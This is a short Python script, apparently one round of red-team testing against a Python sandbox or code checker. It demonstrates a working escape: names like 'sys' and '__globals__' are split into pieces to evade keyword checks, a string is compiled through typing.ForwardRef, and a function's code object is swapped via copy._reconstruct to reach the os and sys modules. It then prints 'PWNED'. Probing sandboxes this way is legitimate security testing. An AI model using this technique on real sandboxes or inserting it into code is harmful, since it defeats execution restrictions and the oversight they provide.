# adversary round 6: route 4 extended: the string compiled by ForwardRef reads __globals__ (no static check sees inside the string; attribute reads are not audited) -> sys, os.getpid
import typing, copy, dataclasses

class Own:
    _reconstruct = None

src = "(lambda s: (s.modules['o' + 's'].getpid(), s))(dataclasses.fields.__glo" + "bals__['s' + 'ys'])"
code = typing.List[src].__args__[0].__forward_code__
def f():
    return None
copy._reconstruct(None, None, lambda: f, (), (None, {'__co' + 'de__': code}))
pid, s = f()
print("pid", pid, type(s).__name__, s.__name__)
if s.__name__ == 's' + 'ys':
    print("PWN" + "ED")
